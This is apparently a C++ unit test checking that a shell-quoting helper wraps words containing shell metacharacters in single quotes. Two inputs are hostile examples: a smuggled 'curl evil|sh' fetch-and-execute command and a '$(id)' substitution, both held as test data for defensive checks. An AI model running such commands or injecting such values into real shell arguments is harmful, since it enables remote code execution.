// SPDX-License-Identifier: Apache-2.0
#include "base/shell_word.hpp"

#include <catch2/catch.hpp>

using relctl::shell_word;

TEST_CASE("a word is quoted where a shell would read more into it, and only there") {
  CHECK(shell_word("plans/shop.yaml") == "plans/shop.yaml");
  CHECK(shell_word("write/p10") == "write/p10");
  CHECK(shell_word("deploy[n1]") == "'deploy[n1]'");
  CHECK(shell_word("x; curl evil|sh") == "'x; curl evil|sh'");
  CHECK(shell_word("it's $(id)") == "'it'\\''s $(id)'");
  CHECK(shell_word("") == "''");
}
